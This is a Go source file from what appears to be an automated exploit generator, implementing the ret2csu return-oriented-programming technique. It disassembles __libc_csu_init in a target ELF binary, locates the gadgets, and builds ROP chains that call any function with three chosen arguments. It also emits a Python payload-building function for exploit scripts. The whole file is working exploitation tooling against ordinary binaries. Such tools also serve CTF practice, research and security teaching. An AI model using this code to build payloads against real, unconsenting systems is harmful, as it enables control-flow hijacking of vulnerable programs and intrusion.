package technique

import (
	"fmt"
	"strings"
	"sync"

	"gitlab.com/stephen-fox/expgen/asmkit"
	"gitlab.com/stephen-fox/expgen/memory"
	"gitlab.com/stephen-fox/expgen/ropkit"
	"golang.org/x/arch/x86/x86asm"
)

const (
	csuInit           = "__libc_csu_init"
	csuInitGadget1    = "__libc_csu_init_gadget1"
	csuInitGadget2    = "__libc_csu_init_gadget2"
	csuInitCallTarget = "__libc_csu_init_call_target"

	csuPadding = 0x4141414141414141

	// The call target is a pointer to _fini, which can be called
	// without side effects.
	csuCallTargetFunc = "_fini"
)

// Ret2csu calls a function with three arguments using the two gadgets
// found at the end of __libc_csu_init:
//
//	gadget2:
//	  mov rdx, r15
//	  mov rsi, r14
//	  mov edi, r13d
//	  call qword ptr [r12+rbx*8]
//	  ...
//	  jnz gadget2
//	gadget1:
//	  add rsp, 0x8
//	  pop rbx
//	  pop rbp
//	  pop r12
//	  pop r13
//	  pop r14
//	  pop r15
//	  ret
//
// The register order differs between compilers, so the function is
// disassembled instead of assuming a layout.
type Ret2csu struct {
	// OptRetAddr, when non-nil, makes the technique contribute its own
	// chain calling OptRetAddr(OptArg1, OptArg2, OptArg3). The
	// arguments must be set as well.
	OptRetAddr ropkit.Expr
	OptArg1    ropkit.Expr
	OptArg2    ropkit.Expr
	OptArg3    ropkit.Expr

	ctx    *Context
	once   sync.Once
	layout csuLayout
	err    error
}

type csuLayout struct {
	gadget1Regs []string
	gadget2Regs map[string]string
	callReg     string

	gadget1    uint64
	gadget2    uint64
	callTarget uint64

	// template contains placeholders for the call's arguments and
	// return address.
	template ropkit.Subchain
}

func (o *Ret2csu) Name() string {
	return Ret2csuName
}

func (o *Ret2csu) CheckRequirements() bool {
	if !o.ctx.Elf.HasSymbol(csuInit) {
		return false
	}

	_, err := o.analyze()
	if err != nil {
		o.ctx.logger().Printf("warn: %s is not viable - %s", o.Name(), err)
		return false
	}

	return true
}

func (o *Ret2csu) RopSubchains() ([]ropkit.Subchain, error) {
	if o.OptRetAddr == nil {
		return nil, nil
	}

	chain, err := o.Chain(o.OptRetAddr, o.OptArg1, o.OptArg2, o.OptArg3)
	if err != nil {
		return nil, err
	}

	return []ropkit.Subchain{concat(ropkit.Subchain{ropkit.Const(csuPadding)}, chain)}, nil
}

func (o *Ret2csu) ExtraRopSubchain() ropkit.Subchain {
	return nil
}

// Chain returns a subchain that calls retAddr(arg1, arg2, arg3).
//
// The call gadget only sets EDI. If arg1 does not fit in 32 bits,
// the chain returns through "pop rdi ; ret" to set RDI.
func (o *Ret2csu) Chain(retAddr, arg1, arg2, arg3 ropkit.Expr) (ropkit.Subchain, error) {
	layout, err := o.analyze()
	if err != nil {
		return nil, err
	}

	chain := make(ropkit.Subchain, 0, len(layout.template)+2)
	for _, e := range layout.template {
		p, isPlaceholder := e.(ropkit.Placeholder)
		if !isPlaceholder {
			chain = append(chain, e)
			continue
		}

		switch p.Tag {
		case ropkit.Arg1Tag:
			chain = append(chain, arg1)
		case ropkit.Arg2Tag:
			chain = append(chain, arg2)
		case ropkit.Arg3Tag:
			chain = append(chain, arg3)
		case ropkit.RetAddrTag:
			chain = append(chain, retAddr)
		default:
			return nil, fmt.Errorf("unhandled placeholder in %s template: %s", o.Name(), p.Tag)
		}
	}

	value, err := ropkit.Value(arg1)
	if err == nil && value >= 1<<32 {
		popRdi, err := o.ctx.gadget(o.ctx.Elf, "pop rdi ; ret")
		if err != nil {
			return nil, fmt.Errorf("failed to set rdi to 0x%x - %w", value, err)
		}

		chain[len(chain)-1] = popRdi
		chain = append(chain, arg1, retAddr)
	}

	return chain, nil
}

// EstimateSize returns the number of values of a chain built by Chain
// for the specified first argument.
func (o *Ret2csu) EstimateSize(arg1 uint64) int {
	size := 1 + 7 + 1 + 7 + 1
	if arg1 >= 1<<32 {
		size += 2
	}

	return size
}

// AuxiliaryFunctions returns the uROP script function, which builds
// the same chain as Chain at exploitation time.
func (o *Ret2csu) AuxiliaryFunctions() string {
	layout, err := o.analyze()
	if err != nil {
		return ""
	}

	lines := []string{"def uROP(retAddr, arg1, arg2, arg3) -> bytes:"}

	for i, e := range layout.template {
		value := ropkit.Render(e)

		if i == 0 {
			lines = append(lines, fmt.Sprintf("    payload  = p64(%s)", value))
		} else {
			lines = append(lines, fmt.Sprintf("    payload += p64(%s)", value))
		}
	}

	lines = append(lines, "    return payload")

	return strings.Join(lines, "\n")
}

func (o *Ret2csu) analyze() (*csuLayout, error) {
	o.once.Do(func() {
		o.err = o.parseLibcCsuInit()
		if o.err == nil {
			o.err = o.buildTemplate()
		}
	})

	if o.err != nil {
		return nil, o.err
	}

	return &o.layout, nil
}

func (o *Ret2csu) parseLibcCsuInit() error {
	elf := o.ctx.Elf

	fn, code, err := elf.FunctionBytes(csuInit)
	if err != nil {
		return err
	}

	var insts []asmkit.Inst
	err = asmkit.NewX86_64Disassembler().AllAt(code, fn.Addr, func(inst asmkit.Inst) error {
		insts = append(insts, inst)
		return nil
	})
	if err != nil {
		return fmt.Errorf("failed to disassemble %s - %w", csuInit, err)
	}

	gadget1Found := false
	for i := len(insts) - 1; i >= 0; i-- {
		if insts[i].Inst.Op != x86asm.JNE {
			continue
		}

		if i+7 >= len(insts) {
			return fmt.Errorf("%s is too short after its last jnz", csuInit)
		}

		o.layout.gadget1 = insts[i+1].Addr

		var regs []string
		for _, inst := range insts[i+1 : i+8] {
			reg, _, _ := strings.Cut(inst.OpStr, ",")
			reg = strings.TrimSpace(reg)
			if reg != "rsp" {
				regs = append(regs, reg)
			}
		}

		o.layout.gadget1Regs = append([]string{"rsp"}, regs...)
		gadget1Found = true
		break
	}

	if !gadget1Found {
		return fmt.Errorf("failed to find gadget1 in %s", csuInit)
	}

	gadget2Found := false
	for i := len(insts) - 1; i >= 3; i-- {
		if insts[i].Inst.Op != x86asm.CALL {
			continue
		}

		o.layout.gadget2Regs = make(map[string]string)
		for _, inst := range insts[i-3 : i] {
			if inst.Inst.Op != x86asm.MOV {
				return fmt.Errorf("expected 3 movs before call at 0x%x - got %q",
					insts[i].Addr, inst.Dis)
			}

			dst, src, _ := strings.Cut(inst.OpStr, ",")
			o.layout.gadget2Regs[strings.TrimSpace(dst)] = strings.TrimSpace(src)
		}

		o.layout.gadget2 = insts[i-3].Addr

		_, operand, hasBracket := strings.Cut(insts[i].OpStr, "[")
		reg, _, hasPlus := strings.Cut(operand, "+")
		if !hasBracket || !hasPlus {
			return fmt.Errorf("unsupported call operand: %q", insts[i].OpStr)
		}

		o.layout.callReg = strings.TrimSpace(reg)
		gadget2Found = true
		break
	}

	if !gadget2Found {
		return fmt.Errorf("failed to find gadget2 in %s", csuInit)
	}

	o.layout.callTarget = o.searchCallTarget()

	return nil
}

// searchCallTarget returns the address of a pointer to _fini, which
// normally lives in the dynamic section.
func (o *Ret2csu) searchCallTarget() uint64 {
	elf := o.ctx.Elf

	fini, hasIt := elf.Symbol(csuCallTargetFunc)
	if !hasIt {
		o.ctx.logger().Printf("warn: no %s symbol for %s()'s call target", csuCallTargetFunc, csuInit)
		return 0
	}

	candidates := elf.Search(memory.PointerMakerForX86_64().FromUint(fini).Bytes())
	if len(candidates) == 0 {
		o.ctx.logger().Printf("warn: no candidates for %s()'s call target", csuInit)
		return 0
	}

	return candidates[0]
}

func (o *Ret2csu) buildTemplate() error {
	elf := o.ctx.Elf
	layout := &o.layout

	init, _ := elf.Symbol(csuInit)
	o.ctx.variable(elf, csuInit, init)

	transform := map[string]ropkit.Expr{
		"rsp":                    ropkit.Const(csuPadding),
		"rbx":                    ropkit.Const(0),
		"rbp":                    ropkit.Const(1),
		regPrefix(layout, "edi"): ropkit.Placeholder{Tag: ropkit.Arg1Tag},
		regPrefix(layout, "rsi"): ropkit.Placeholder{Tag: ropkit.Arg2Tag},
		regPrefix(layout, "rdx"): ropkit.Placeholder{Tag: ropkit.Arg3Tag},
		layout.callReg:           o.ctx.variable(elf, csuInitCallTarget, layout.callTarget),
	}

	template := ropkit.Subchain{o.ctx.variable(elf, csuInitGadget1, layout.gadget1)}

	for _, reg := range layout.gadget1Regs {
		e, hasIt := transform[reg]
		if !hasIt {
			return fmt.Errorf("%s gadget1 pops an unexpected register: %q", csuInit, reg)
		}

		template = append(template, e)
	}

	template = append(template, o.ctx.variable(elf, csuInitGadget2, layout.gadget2))

	for i := 0; i < 7; i++ {
		template = append(template, ropkit.Const(csuPadding))
	}

	layout.template = append(template, ropkit.Placeholder{Tag: ropkit.RetAddrTag})

	return nil
}

// regPrefix returns the 64-bit register gadget2 copies into dst.
// "r13d" becomes "r13".
func regPrefix(layout *csuLayout, dst string) string {
	src := layout.gadget2Regs[dst]
	if len(src) > 3 {
		return src[:3]
	}

	return src
}
